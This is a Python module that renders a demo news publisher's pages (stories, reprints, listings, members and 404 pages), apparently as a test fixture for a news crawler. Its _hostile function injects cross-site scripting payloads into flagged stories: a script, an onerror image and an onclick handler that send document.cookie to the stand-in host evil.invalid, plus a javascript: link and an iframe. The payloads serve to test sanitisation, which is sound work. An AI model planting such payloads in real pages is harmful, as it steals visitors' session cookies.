"""Render the demo publisher's pages: stories, listings, front pages, the members page, 404."""

from __future__ import annotations

import datetime as dt
import json
import logging
import re
from dataclasses import dataclass
from html import escape

import markdown

from csrnews.demo.chrome import LISTING_TEXTS, PUBLISHERS, page, reprint_line
from csrnews.demo.stories import PUBLISHER_KEYS, DemoStory, reprint_date_style

logger = logging.getLogger(__name__)

PAGE_SIZE = 5  # stories per weekly listing page
SIDEBAR_SIZE = 5
MEMBERS_PATH = "/weekly/members/2019-csr-index-full-data.html"
DEAD_LINK_PATH = "/weekly/story/2015-csr-forum-notice.html"
MONTHS = (
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
)
EVIL = "http://evil.invalid"  # .invalid never resolves: hostile pages stay offline


@dataclass(frozen=True)
class Entry:
    """A story as one publisher carries it: its own story, or a reprint of another's."""

    story: DemoStory
    publisher: str
    path: str
    date_style: str
    reprint: bool


def entries_for(stories: list[DemoStory], publisher: str) -> list[Entry]:
    """Everything a publisher carries (own stories and reprints), newest first."""
    found = []
    for s in stories:
        if s.publisher == publisher:
            found.append(Entry(s, publisher, s.path, s.date_style, False))
        elif s.reprinted_by == publisher and s.reprint_path:
            found.append(Entry(s, publisher, s.reprint_path, reprint_date_style(s), True))
    return sorted(found, key=lambda e: (e.story.published, e.story.id), reverse=True)


def all_entries(stories: list[DemoStory]) -> list[Entry]:
    """Every page of every publisher."""
    return [e for key in PUBLISHER_KEYS for e in entries_for(stories, key)]


def display_date(story: DemoStory, lang: str) -> str:
    """The date as a reader sees it: "28 August 2017" or "2017年8月28日" (with a time if known)."""
    d = story.date
    if lang == "zh":
        text = f"{d.year}年{d.month}月{d.day}日"
    else:
        text = f"{d.day} {MONTHS[d.month - 1]} {d.year}"
    if story.has_time:
        text += f" {story.published:%H:%M}"
    return text


def _md(text: str) -> str:
    return markdown.markdown(text, extensions=["tables"], output_format="html")


_BLOCK_START = re.compile(r"^\s*(#|[-*+] |\d+[.)] |\||>)")


def _reprint_body(story: DemoStory) -> str:
    """The reprint's Markdown: the same body with a different first line (a dateline)."""
    lines = story.body.split("\n")
    locations = story.labels.get("locations") or []
    if story.lang == "zh":
        prefix = "（转载）"
    else:
        prefix = f"{str(locations[0]).upper()} — " if locations else "(Reprint) "
    for i, line in enumerate(lines):
        if line.strip():
            if _BLOCK_START.match(line):
                lines.insert(i, prefix.strip() + "\n")
            else:
                lines[i] = prefix + line
            break
    return "\n".join(lines)


_P_RE = re.compile(r"<p>(.*?)</p>", re.DOTALL)


def _hostile(body_html: str) -> str:
    """Inject script, iframe, onerror, javascript: and onclick around the real prose."""
    paragraphs = list(_P_RE.finditer(body_html))
    if not paragraphs:
        return body_html
    # <p onclick> around the second paragraph's real text.
    target = paragraphs[1] if len(paragraphs) > 1 else paragraphs[0]
    body_html = (
        body_html[: target.start()]
        + f"<p onclick=\"location.href='{EVIL}/?c='+document.cookie\">"
        + target.group(1)
        + "</p>"
        + body_html[target.end() :]
    )
    # A javascript: link around the first words of the third paragraph (the words stay visible).
    paragraphs = list(_P_RE.finditer(body_html))
    if len(paragraphs) > 2:
        p = paragraphs[2]
        words = p.group(1).split(" ")
        if len(words) > 6 and "<" not in " ".join(words[:4]):
            linked = (
                f'<a href="javascript:alert(document.cookie)">{" ".join(words[:4])}</a> '
                + " ".join(words[4:])
            )
            body_html = body_html[: p.start()] + f"<p>{linked}</p>" + body_html[p.end() :]
    first_end = body_html.find("</p>") + len("</p>")
    injected = (
        f'<script>new Image().src="{EVIL}/steal?c="+encodeURIComponent(document.cookie);'
        f"</script>"
        f'<iframe src="{EVIL}/ads/frame.html" width="300" height="250"></iframe>'
        f'<img src="x" onerror="fetch(\'{EVIL}/?c=\'+document.cookie)">'
    )
    return body_html[:first_end] + injected + body_html[first_end:]


def _jsonld(story: DemoStory, url: str, publisher: str) -> str:
    data = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": story.title,
        "datePublished": story.date_iso,
        "inLanguage": "zh-CN" if story.lang == "zh" else "en",
        "author": {"@type": "Person", "name": story.author or PUBLISHERS[publisher].name},
        "publisher": {"@type": "Organization", "name": PUBLISHERS[publisher].name},
        "mainEntityOfPage": url,
    }
    text = json.dumps(data, ensure_ascii=False).replace("</", "<\\/")
    return f'<script type="application/ld+json">{text}</script>\n'


def _byline(story: DemoStory, date_style: str) -> str:
    zh = story.lang == "zh"
    parts = []
    if story.author:
        label = "作者：" if zh else "By "
        parts.append(f'<span class="author">{label}{escape(story.author)}</span>')
    if date_style == "time":
        parts.append(
            f'<time datetime="{story.date_iso}" class="published">'
            f"{display_date(story, story.lang)}</time>"
        )
    elif date_style == "byline":
        label = "发布时间：" if zh else "Published "
        parts.append(f'<span class="date">{label}{display_date(story, story.lang)}</span>')
    sep = "　" if zh else " | "
    return f'<div class="byline">{sep.join(parts)}</div>' if parts else ""


def _charset_meta(story: DemoStory) -> str:
    if story.charset_in != "meta":
        return ""
    if story.encoding.startswith("gb"):
        return f'<meta http-equiv="Content-Type" content="text/html; charset={story.encoding}">\n'
    return f'<meta charset="{story.encoding}">\n'


def headlines(entries: list[Entry], exclude: str = "") -> list[tuple[str, str]]:
    """(path, title) of the newest stories on a publisher, for the sidebar."""
    return [(e.path, e.story.title) for e in entries if e.path != exclude][:SIDEBAR_SIZE]


def story_page(entry: Entry, stories: list[DemoStory], base: str) -> str:
    """The full HTML of a story page on one publisher (its own or a reprint)."""
    story, pub, style = entry.story, entry.publisher, entry.date_style
    body_md = _reprint_body(story) if entry.reprint else story.body
    body_html = _md(body_md)
    if "hostile" in story.flags:
        body_html = _hostile(body_html)
    head = _charset_meta(story) + '<meta name="viewport" content="width=device-width">\n'
    if style != "url":
        head += f'<link rel="canonical" href="{base}{entry.path}">\n'
    if style == "meta":
        head += f'<meta property="article:published_time" content="{story.date_iso}">\n'
    elif style == "jsonld":
        head += _jsonld(story, base + entry.path, pub)
    if story.summary:
        head += f'<meta name="description" content="{escape(story.summary)}">\n'
    notice = ""
    if entry.reprint:
        line = escape(reprint_line(story.publisher, pub))
        notice = f'<p class="reprint-line"><a href="{story.path}">{line}</a></p>'
    title, byline = escape(story.title), _byline(story, style)
    if pub == "herald":
        main = (
            f'<article class="story"><h1 class="headline">{title}</h1>{byline}'
            f'<div class="story-body">{body_html}</div>{notice}</article>'
        )
    elif pub == "review":
        main = (
            f'<article class="post"><header><h1 class="entry-title">{title}</h1>{byline}'
            f'</header>{notice}<div class="entry-content">{body_html}</div></article>'
        )
    elif pub == "weekly":
        main = (
            f'<div class="article"><h1>{title}</h1>{byline}<div class="article-content">'
            f"{body_html}</div>{notice}</div>"
        )
    else:
        main = (
            f'<article class="news"><h1 class="title">{title}</h1>{byline}<section '
            f'class="article-body">{body_html}</section>{notice}</article>'
        )
    side = headlines(entries_for(stories, pub), exclude=entry.path)
    return page(
        pub,
        title=story.title,
        lang=story.lang,
        head=head,
        main=main,
        headlines=side,
        share_id=story.id,
    )


def listing_pages(stories: list[DemoStory]) -> int:
    """How many weekly listing pages there are (at least one)."""
    return max(1, -(-len(entries_for(stories, "weekly")) // PAGE_SIZE))


def listing_page(number: int, stories: list[DemoStory]) -> str:
    """Weekly listing page `number` (1-based): five stories, pagination, members and dead link."""
    entries = entries_for(stories, "weekly")
    chunk = entries[(number - 1) * PAGE_SIZE : number * PAGE_SIZE]
    last = listing_pages(stories)
    items = "".join(
        f'<li><a href="{e.path}">{escape(e.story.title)}</a><p class="summary">'
        f"{escape(e.story.summary)}</p></li>"
        for e in chunk
    )
    pager = []
    if number > 1:
        pager.append(
            f'<a class="prev" href="/weekly/list/{number - 1}.html">{LISTING_TEXTS["prev"]}</a>'
        )
    pager += [
        f'<a href="/weekly/list/{n}.html">{n}</a>' if n != number else f"<b>{n}</b>"
        for n in range(1, last + 1)
    ]
    if number < last:
        pager.append(
            f'<a class="next" href="/weekly/list/{number + 1}.html">{LISTING_TEXTS["next"]}</a>'
        )
    extra = (
        f'<div class="recommend"><a href="{MEMBERS_PATH}">{LISTING_TEXTS["members"]}</a> '
        f'<a href="{DEAD_LINK_PATH}">{LISTING_TEXTS["dead"]}</a></div>'
    )
    main = (
        f'<div class="listing"><h1>{LISTING_TEXTS["heading"]}</h1><ul class="list">{items}'
        f'</ul><div class="pager">{" ".join(pager)}</div>{extra}</div>'
    )
    return page(
        "weekly",
        title=f"{LISTING_TEXTS['heading']} {number}",
        lang="zh",
        head='<meta charset="utf-8">\n',
        main=main,
        headlines=headlines(entries),
    )


def front_page(publisher: str, stories: list[DemoStory]) -> str:
    """A publisher's front page: every headline it carries."""
    entries = entries_for(stories, publisher)
    pub = PUBLISHERS[publisher]
    items = "".join(f'<li><a href="{e.path}">{escape(e.story.title)}</a></li>' for e in entries)
    more = '<p><a href="/weekly/list/1.html">最新文章</a></p>' if publisher == "weekly" else ""
    main = f'<div class="front"><h1>{escape(pub.name)}</h1><ul>{items}</ul>{more}</div>'
    return page(
        publisher,
        title=pub.name,
        lang=pub.lang,
        head='<meta charset="utf-8">\n',
        main=main,
        headlines=headlines(entries),
    )


MEMBERS_TITLE = "2019年电子行业社会责任指数完整数据（会员专享）"
MEMBERS_BODY = (
    "<p>本文为会员专享内容。2019年电子行业社会责任指数完整数据包括一百家样本企业在劳工、环境、"
    "供应链管理等维度的逐项得分。</p><p>会员登录后可下载完整数据表和评价方法说明。</p>"
)


def members_page(stories: list[DemoStory]) -> str:
    """The weekly's members-only page (robots.txt disallows it)."""
    main = (
        f'<div class="article"><h1>{MEMBERS_TITLE}</h1><div class="byline"><span '
        f'class="author">作者：周刊研究部</span></div><div class="article-content">'
        f"{MEMBERS_BODY}</div></div>"
    )
    return page(
        "weekly",
        title=MEMBERS_TITLE,
        lang="zh",
        head='<meta charset="utf-8">\n',
        main=main,
        headlines=headlines(entries_for(stories, "weekly")),
    )


def home_page(stories: list[DemoStory]) -> str:
    """The demo server's home page: links to the four publishers and their feeds."""
    finds = {
        "herald": "/herald/feed.xml",
        "review": "/review/atom.xml",
        "weekly": "/weekly/list/1.html",
        "esn": "/esn/sitemap.xml",
    }
    rows = "".join(
        f'<li><a href="/{key}/">{escape(PUBLISHERS[key].name)}</a> '
        f'(<a href="{finds[key]}">{finds[key]}</a>, {len(entries_for(stories, key))} stories)</li>'
        for key in PUBLISHER_KEYS
    )
    return (
        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>csrnews demo '
        f"publisher</title></head><body><h1>csrnews demo publisher</h1><ul>{rows}</ul>"
        '<p><a href="/robots.txt">robots.txt</a></p></body></html>\n'
    )


def not_found_page(path: str) -> str:
    """The 404 page."""
    return (
        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>404 Not Found'
        f"</title></head><body><h1>Not Found</h1><p>No page at {escape(path)}.</p>"
        '<p><a href="/">Demo publisher home</a></p></body></html>\n'
    )


def error_page(status: int) -> str:
    """The page of a failure injected by fail_prefix."""
    return (
        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Error'
        f"</title></head><body><h1>Error {status}</h1><p>The publisher is having trouble."
        "</p></body></html>\n"
    )


def last_changed(entries: list[Entry]) -> dt.datetime | None:
    """The newest change among entries (publication or run-time addition)."""
    return max((e.story.changed for e in entries), default=None)
